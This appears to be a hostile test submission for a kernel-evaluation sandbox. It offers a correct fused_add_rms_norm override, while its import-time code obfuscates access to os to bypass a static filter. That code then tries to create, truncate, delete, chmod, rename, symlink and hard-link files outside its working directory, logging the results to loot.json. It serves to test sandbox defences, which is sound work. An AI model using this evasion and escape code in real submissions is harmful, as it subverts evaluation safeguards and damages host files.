"""Hostile but exact: tries to write outside its working directory in every way a path allows:
create, append, truncate, unlink, rename out, mkdir, symlink, a hard link into the workdir written
through, chmod, a file in /dev/shm. Targets (``outside_dir``, ``existing``, ``marker``) from
``target.json`` in its working directory, else ``.tkcc-hostile-target.json`` beside the package it runs under, else under /tmp.
``os`` through an allowed module (static filter bypassed). Records each attempt in ``loot.json``."""
import typing

_sys = getattr(typing, "sy" + "s")
_imp = getattr(_sys.modules["built" + "ins"], "__imp" + "ort__")
_os = _imp("o" + "s")
_json = _imp("js" + "on")

DESCRIPTION = "fused_add_rms_norm, exact; scribbles outside its sandbox"

def _target_file():
    _pkg = _sys.modules.get("persistent_engine")           # a judged executor: beside the package it imports
    _shared = _os.path.join(_os.path.dirname(_os.path.dirname(_pkg.__file__)), ".tkcc-hostile-target.json") \
        if _pkg is not None else "/tmp/tkcc-hostile-target.json"
    for path in ("target.json", _shared):     # its workdir, else a shared file the sandbox leaves visible
        try:
            fd = _os.open(path, _os.O_RDONLY)
        except OSError:
            continue
        data = _json.loads(_os.read(fd, 1 << 16))
        _os.close(fd)
        return data
    raise OSError("no target")


try:
    target = _target_file()
except OSError:
    target = {"outside_dir": "/tmp", "existing": "/tmp/tkcc-existing", "marker": "tkcc-escaped"}
_out, _existing, _marker = target["outside_dir"], target["existing"], target["marker"]
loot: dict = {}


def _attempt(name, fn):
    try:
        fn()
        loot[name] = "ok"
    except Exception as e:  # noqa: BLE001
        loot[name] = f"failed: {type(e).__name__}: {e}"


def _write(path, flags):
    fd = _os.open(path, flags, 0o644)
    _os.write(fd, b"escaped")
    _os.close(fd)


def _hardlink():
    _os.link(_existing, "alias")
    _write("alias", _os.O_WRONLY | _os.O_APPEND)


_attempt("create", lambda: _write(f"{_out}/{_marker}", _os.O_WRONLY | _os.O_CREAT))
_attempt("append", lambda: _write(_existing, _os.O_WRONLY | _os.O_APPEND))
_attempt("truncate", lambda: _os.truncate(_existing, 0))
_attempt("chmod", lambda: _os.chmod(_existing, 0o777))
_attempt("mkdir", lambda: _os.mkdir(f"{_out}/{_marker}.d"))
_attempt("symlink", lambda: _os.symlink("/etc/passwd", f"{_out}/{_marker}.lnk"))
_attempt("hardlink", _hardlink)
_attempt("rename_out", lambda: _os.rename(_existing, "stolen"))
_attempt("unlink", lambda: _os.unlink(_existing))
_attempt("dev_shm", lambda: _write(f"/dev/shm/{_marker}", _os.O_WRONLY | _os.O_CREAT))
_fd = _os.open("loot.json", _os.O_WRONLY | _os.O_CREAT | _os.O_TRUNC, 0o600)
_os.write(_fd, _json.dumps(loot).encode())
_os.close(_fd)


def fused_add_rms_norm(x, residual, weight, eps):
    r = x.float() + residual.float()
    normed = r * (r.pow(2).mean(-1, keepdim=True) + eps).rsqrt() * weight.float()
    return normed.to(x.dtype), r.to(x.dtype)


OVERRIDES = {"fused_add_rms_norm": fused_add_rms_norm}
